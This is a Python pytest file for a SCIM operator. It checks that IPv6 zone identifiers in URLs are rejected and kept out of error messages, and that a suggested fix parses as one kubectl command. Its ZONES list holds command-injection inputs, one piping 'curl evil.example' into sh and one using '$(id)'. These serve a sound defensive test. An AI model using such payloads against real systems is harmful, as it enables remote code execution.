"""A message gives the line that fixes it, and an administrator pastes it into a shell: nothing of it is an author's."""

from __future__ import annotations

import shlex

import pytest

from scim_operator.core.destinations import DataRef, destination_of, going_to, host_name, released
from scim_operator.errors import HostNotNamed, InvalidSpec
from scim_operator.scim.url import service_url

ZONES = ["fd00::1%25';{curl,evil.example}|sh;'", "fd00::1%25eth0", "fe80::1%lo", "::1%25$(id)"]


@pytest.mark.parametrize("host", ZONES)
def test_an_address_with_a_zone_is_no_host(host: str) -> None:
    """A zone may be any text, and only addresses that nothing is sent to have one."""
    url = f"https://[{host}]/scim"
    with pytest.raises(ValueError, match="no host"):
        destination_of(url)
    with pytest.raises(InvalidSpec) as caught:
        service_url(url)
    assert host not in str(caught.value)
    with pytest.raises(ValueError, match="no host"):
        host_name(host)


@pytest.mark.parametrize("url", ["https://evil.example", "https://[fd00::1]:8443", "https://EVIL.example.:1"])
def test_the_line_is_one_command(url: str) -> None:
    ref = DataRef("Secret", "identity", "vmware-scim", ("token",))
    with pytest.raises(HostNotNamed) as caught:
        released(ref, {"hosts": b"vc.example.com", "token": b"x"}, going_to(destination_of(url)))
    words = shlex.split(str(caught.value).partition("already: ")[2])
    assert words[:2] == ["kubectl", "--namespace"]
    assert len(words) == 8
